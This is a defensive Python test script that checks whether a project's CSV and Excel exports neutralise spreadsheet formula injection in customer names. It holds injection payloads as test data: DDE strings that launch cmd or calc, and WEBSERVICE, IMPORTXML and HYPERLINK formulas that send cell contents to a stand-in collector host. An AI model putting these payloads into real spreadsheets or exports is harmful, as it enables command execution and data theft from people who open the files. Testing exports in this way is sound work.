"""Formulas in names, through every file that is saved, and read back by ``csv`` and by ``openpyxl``.

    python tests/leaks/formulas.py [COUNT]

A cell counts as a formula when ``openpyxl`` types it so, or when what ``csv`` reads begins, after
whatever a spreadsheet skips, with one of the signs that make a formula.
"""

from __future__ import annotations

import csv
import re
import sys
import tempfile
import unicodedata
import zipfile
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from itertools import product
from pathlib import Path

import openpyxl
import pandas as pd

sys.path.insert(0, str(Path(__file__).parents[1] / "browser"))

import hostile

from bespeak import find_customer, study
from bespeak.review import (
    Origin,
    read_table,
    save_study_tables,
    save_study_workbook,
    save_tables,
    save_workbook,
)

SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BEFORE = (
    "",
    "\t",
    "\r",
    "\n",
    "\r\n",
    " ",
    "'",
    '"',
    "\u00a0",
    "\ufeff",
    "\u200b",
    "\u202e",
    "\x00",
    "\x1f",
    ";",
    ",",
    "a;",
)
AFTER = (
    "1+1",
    'HYPERLINK("https://collector.invalid","open")',
    "cmd|'/C calc'!A0",
    'WEBSERVICE("https://collector.invalid/"&A1)',
    "SUM(A1:A9)*2",
    'IMPORTXML("https://collector.invalid","//a")',
    'DDE("cmd","/C calc","x")',
    '"),"=1+1',
    "",
    "2026-11-16",
    "A1\r\n=1+1",
    "{1;2}",
    "<r><t>=1</t></r>",
)
#: What openpyxl leaves of a sign that XML cannot hold.
_UNPRINTABLE = re.compile("[\x00-\x08\x0b-\x1f\ufffe\uffff]")


def formulas(wanted: int) -> list[str]:
    """So many texts, all different, spread over all signs, beginnings and endings."""
    every = [f"{before}{sign}{after}" for after, before, sign in product(AFTER, BEFORE, SIGNS)]
    extra = ["<r>=1+1</r>", "<r></t></si><si><t>=1</r>", "=" * 300, "{=1+1}", "_x003D_1+1", "\U0001f600=1"]
    step = max(1, len(every) // max(1, wanted - len(extra)))
    return list(dict.fromkeys([*extra, *every[::step], *every]))[:wanted]


@dataclass(slots=True)
class Found:
    """What the files held: cells of text that were read, formulas among them, texts that did not come back."""

    cells: int = 0
    files: int = 0
    formulas: list[str] = field(default_factory=list)
    lost: list[str] = field(default_factory=list)


def run(folder: Path, texts: Sequence[str]) -> Found:
    """Saves the texts in every place, reads the files back, and says what was found."""
    found = Found()
    for table, path in _tables(folder, texts):
        _look_at_csv(path, found)
        back = read_table(path)
        _compare(path, [str(name) for name in table.columns], list(back.columns), found)
        for place in range(table.shape[1]):
            wanted = ["; ".join(v) if isinstance(v, tuple) else str(v) for v in table.iloc[:, place]]
            _compare(path, wanted, list(back.iloc[:, place]), found)
    for path, places in _workbooks(folder, texts):
        _look_at_workbook(path, places, found)
    return found


def _placed(texts: Sequence[str]) -> dict[str, pd.DataFrame]:
    """The texts as cells, members of lists, categories, and names of columns."""
    return {
        "cells.csv": pd.DataFrame(
            {
                "name": list(texts),
                "kind": pd.Categorical(list(texts)),
                "vms": [(text, "x") for text in texts],
                "alone": [(text,) for text in texts],
            }
        ),
        "heads.csv": pd.DataFrame([["x"] * len(texts)], columns=list(texts)),
    }


def _tables(folder: Path, texts: Sequence[str]) -> Iterator[tuple[pd.DataFrame, Path]]:
    placed = _placed(texts)
    yield from zip(placed.values(), save_tables(folder, placed), strict=True)


def _workbooks(folder: Path, texts: Sequence[str]) -> Iterator[tuple[Path, Iterable[str]]]:
    now = datetime(2026, 11, 16, tzinfo=UTC)
    placed = {name.removesuffix(".csv"): table for name, table in _placed(texts).items()}
    origin = Origin(texts[0], "#8a5a00", now, dict(zip(texts, reversed(texts), strict=True)))
    yield save_workbook(folder / "cells.xlsx", placed, origin), texts
    sheets = {text: pd.DataFrame({"a": [text]}) for text in texts}
    yield save_workbook(folder / "sheets.xlsx", sheets, origin), texts
    for number, names in enumerate(_worlds(texts)):
        yield from _studied(folder / f"study-{number}", names)


def _worlds(texts: Sequence[str]) -> Iterator[list[str]]:
    """The texts that a name in a world can be (no NUL: its tables are CSV), in bundles of a customer's names."""
    usable = [text for text in texts if "\x00" not in text and text.strip()]
    for start in range(0, len(usable), 60):
        yield usable[start : start + 60]


def _studied(folder: Path, names: list[str]) -> Iterator[tuple[Path, Iterable[str]]]:
    """The saved study of a customer whose every name is a formula; its CSV files are looked at at once."""
    with tempfile.TemporaryDirectory() as root:
        session = hostile.session(Path(root), names, Path(root) / "home")
        found = study(session, find_customer(session, hostile.guid(1, 0)), 7)
        for path in save_study_tables(folder, found):
            looked = Found()
            _look_at_csv(path, looked)
            if looked.formulas:
                raise AssertionError(looked.formulas)
        yield save_study_workbook(folder, found), [found.details.name]


def _look_at_csv(path: Path, found: Found) -> None:
    found.files += 1
    with path.open(encoding="utf-8-sig", newline="") as file:
        for line in csv.reader(file, strict=True):
            for cell in line:
                found.cells += 1
                if starts_formula(cell):
                    found.formulas.append(f"{path.name}: {cell!r}")


def starts_formula(cell: str) -> bool:
    """Whether a spreadsheet may take the cell for a formula: a negative number is none."""
    seen = "".join(sign for sign in cell if unicodedata.category(sign) not in {"Cc", "Cf", "Zs", "Zl", "Zp"})
    number = re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell)
    return not number and unicodedata.normalize("NFKC", seen).startswith(("=", "+", "-", "@"))


def _look_at_workbook(path: Path, wanted: Iterable[str], found: Found) -> None:
    found.files += 1
    seen: set[str] = set()
    for sheet in openpyxl.load_workbook(path):
        for row in sheet.iter_rows():
            for cell in row:
                found.cells += cell.value is not None
                if cell.data_type == "f" or cell.hyperlink is not None:
                    found.formulas.append(f"{path.name} {sheet.title}!{cell.coordinate}: {cell.value!r}")
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    with zipfile.ZipFile(path) as parts:
        for name in parts.namelist():
            if re.search(rb"<f[ >]|<hyperlink |TargetMode=", parts.read(name)):
                found.formulas.append(f"{path.name}: {name}")
    found.lost += [f"{path.name}: {text!r}" for text in wanted if as_openpyxl_reads(text) not in seen]


def as_openpyxl_reads(text: str) -> str:
    """The text with the signs that XML cannot hold as Excel writes them, which openpyxl leaves as they are."""
    return _UNPRINTABLE.sub(lambda match: f"_x{ord(match[0]):04X}_", text)


def _compare(path: Path, wanted: Sequence[str], back: Sequence[str], found: Found) -> None:
    pairs = zip(wanted, back, strict=True)
    found.lost += [f"{path.name}: {text!r} came back as {read!r}" for text, read in pairs if text != read]


def main(wanted: int) -> int:
    """Runs so many; the last line is the figure."""
    with tempfile.TemporaryDirectory() as folder:
        found = run(Path(folder), formulas(wanted))
    for line in [*found.formulas, *found.lost][:40]:
        sys.stdout.write(f"{line}\n")
    sys.stdout.write(
        f"{wanted} formula strings, {found.cells:,} cells in {found.files} files: {len(found.formulas)} formula cells, "
        f"{len(found.lost)} texts lost\n"
    )
    return 1 if found.formulas or found.lost else 0


if __name__ == "__main__":
    sys.exit(main(int(sys.argv[1]) if len(sys.argv) > 1 else 300))
